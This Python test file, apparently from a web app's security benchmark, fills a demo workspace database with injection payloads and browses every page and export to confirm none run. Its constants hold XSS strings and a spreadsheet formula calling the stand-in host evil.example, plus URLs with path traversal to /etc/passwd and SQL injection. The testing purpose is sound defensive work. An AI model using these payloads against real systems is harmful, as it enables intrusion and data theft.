"""Script, HTML, Markdown and formulas in every text of a workspace run nowhere: in no page, in no export."""

import re
import sqlite3
from contextlib import closing
from pathlib import Path
from urllib.parse import urlsplit

from playwright.sync_api import Page, Request, sync_playwright

from benchmarks.pages import BROWSER_FLAGS
from fieldnotes import create_demo_workspace
from fieldnotes.store.database import connect
from fieldnotes.ui.shell import PAGES, page_address
from scripts.find_browser import find_browser

from .exports import find_live_exports
from .material import start_web
from .outcome import Outcome

HOST = "evil.example"
PAYLOADS = (
    f"<img src=x onerror=\"window.pwned=1\"><script src='http://{HOST}/a.js'>window.pwned=2</script>",
    f'"><svg/onload=window.pwned=3><iframe src="http://{HOST}/"></iframe>\' onfocus=\'window.pwned=4',
    f"![x](http://{HOST}/x.png) [y](javascript:pwned) <http://{HOST}> $\\href{{javascript:pwned}}{{z}}$",
    f'=HYPERLINK("http://{HOST}","x") @SUM(1) -1+1|cmd {{{{constructor.constructor("pwned")()}}}}',
    "\u202egnp.exe\u202c :material/delete: :red[x] # y\n\n---\n\n<style>*{{display:none}}</style>",
)
HOSTILE_ADDRESSES = (
    f"/library?q=%3Cscript%20src=//{HOST}%3E%3C/script%3E%00%E2%80%AE&code=1%27%20OR%201=1--&page=-1",
    "/story?id=99999999999999999999&finding=..%2F..%2Fetc%2Fpasswd",
    "/transcript?source=1;DROP%20TABLE%20member&at=NaN&view=%F0%9F%98%80",
    "/patterns?view=%3Csvg/onload=pwned%3E&code=-1&by=__class__",
)
LIVE = f"""() => {{
  const found = [];
  if (window.pwned) found.push("ran: " + window.pwned);
  for (const one of document.querySelectorAll('[data-testid="stException"]'))
    found.push("a traceback: " + one.innerText.slice(0, 120));
  const show = (one) => found.push(one.outerHTML.slice(0, 120));
  for (const one of document.querySelectorAll("[src], [href], [action], [data]")) {{
    const address = one.getAttribute("src") || one.getAttribute("href") || one.getAttribute("action") || "";
    let url = null;
    try {{ url = new URL(address, location.href); }} catch {{ continue; }}
    if (url.protocol === "javascript:" || url.hostname.endsWith("{HOST}")) show(one);
  }}
  for (const one of document.querySelectorAll("[onerror], [onload], [onfocus], [onclick]"))
    if (/pwned/.test(one.outerHTML.slice(0, 400))) show(one);
  for (const one of document.querySelectorAll("style"))
    if (one.textContent.includes("*{{display:none}}")) show(one);
  return found;
}}"""
SETTLED = """() => document.querySelector('[data-testid="stApp"]')?.getAttribute("data-test-script-state")
  === "notRunning" && document.querySelectorAll('[data-testid="stSkeleton"]').length === 0"""
# What is not free text: it names a kind, a moment, a hash, a place in a file, or is read by the program.
_NOT_FREE = re.compile(
    r"(_at|_on|_key|guid|sha256|secret|mime_type|kind|state|status|mode|language|seat|outcome|json|"
    r"engine|model|method|version|weights|token|stance|form|role|revision|period|until|hash|salt|op|table_name|"
    r"part|direction|color|colour|hex|places|vector|mapping|before|after|cells|what|purpose|scope)$"
)


def check(times: int, scratch: Path) -> Outcome:
    """Put a payload behind every text of the demo; open all pages, up to `times` of them, and all exports."""
    executable = find_browser()
    if executable is None:
        return Outcome(None, said="There is no Chrome or Chromium here.")
    folder = scratch / "workspace"
    create_demo_workspace(folder).close()
    texts = poison(folder / "fieldnotes.db")
    web, port = start_web(folder)
    dialogs: list[str] = []
    foreign: list[str] = []
    live: list[str] = []
    try:
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=str(executable), args=[*BROWSER_FLAGS])
            page = browser.new_page(viewport={"width": 1280, "height": 1600})
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.on("request", lambda request: foreign.extend(_foreign(request)))
            visited = _visit_all(page, f"http://127.0.0.1:{port}", times, live)
            browser.close()
    finally:
        web.terminate()
        web.wait()
    exports, alive = find_live_exports(folder, HOST)
    figures: dict[str, float | str] = {
        "texts_poisoned": texts,
        "addresses": visited,
        "dialogs": len(dialogs),
        "requests_elsewhere": len(foreign),
        "live_elements": len(live),
        "exports": exports,
        "live_exports": len(alive),
    }
    wrong = [*dialogs, *foreign, *live, *alive]
    return Outcome(not wrong and texts > 0 and visited > 0, figures, "; ".join(wrong[:4]))


def poison(path: Path) -> int:
    """Append a payload to each free text of the database; returns how many texts that were."""
    changed = 0
    with closing(connect(path).conn) as db:
        db.execute("PRAGMA foreign_keys = OFF")
        tables = db.execute("SELECT name FROM sqlite_master WHERE type = 'table' AND sql LIKE '%STRICT%'")
        for (table,) in tables.fetchall():
            for column in db.execute(f'PRAGMA table_info("{table}")').fetchall():
                name, kind, is_key = column[1], column[2], column[5]
                if kind != "TEXT" or is_key or _NOT_FREE.search(name):
                    continue
                for n, (row_id, text) in enumerate(_texts(db, table, name)):
                    if not text or re.fullmatch(r"[\d.,:TZ+-]+|[\[{].*", text, re.DOTALL):
                        continue
                    try:
                        db.execute(
                            f'UPDATE "{table}" SET "{name}" = ? WHERE rowid = ?',
                            [f"{PAYLOADS[n % len(PAYLOADS)]} {text} {row_id}", row_id],
                        )
                    except sqlite3.DatabaseError:  # one of a few words that the column may hold
                        break
                    changed += 1
    return changed


def _texts(db: sqlite3.Connection, table: str, column: str) -> list[tuple[int, str]]:
    try:
        return db.execute(f'SELECT rowid, "{column}" FROM "{table}"').fetchall()
    except sqlite3.DatabaseError:  # a table without row ids
        return []


def _visit_all(page: Page, url: str, most: int, live: list[str]) -> int:
    """Open every page, then what they lead to, until so many addresses were opened; returns how many."""
    waiting = [*HOSTILE_ADDRESSES, *(page_address(entry.name) for entry in PAGES)]
    waiting += ["/story?id=1", "/findings?id=1", "/metrics?id=1", "/transcript?id=1", "/walk?id=1"]
    seen: set[str] = set()
    while waiting and len(seen) < most:
        address = waiting.pop(0)
        if address in seen:
            continue
        seen.add(address)
        page.goto(url + address, wait_until="domcontentloaded")
        try:
            page.wait_for_function(SETTLED, timeout=30_000)
        except Exception:  # noqa: BLE001 - a page that still works is looked at as it is
            live += [f"{address} did not come to rest"]
        page.wait_for_timeout(300)  # what a payload would do takes a moment
        live += [f"{address}: {one}" for one in page.evaluate(LIVE)]
        for link in page.eval_on_selector_all("a[href]", "links => links.map((one) => one.href)"):
            parts = urlsplit(link)
            target = parts.path + (f"?{parts.query}" if parts.query else "")
            if link.startswith(url) and not parts.path.startswith(("/api/", "/app/", "/media/")):
                waiting.append(target)
    return len(seen)


def _foreign(request: Request) -> list[str]:
    host = urlsplit(request.url).hostname
    inside = host in ("127.0.0.1", "localhost") or request.url.startswith(("data:", "blob:", "about:"))
    return [] if inside else [request.url[:120]]
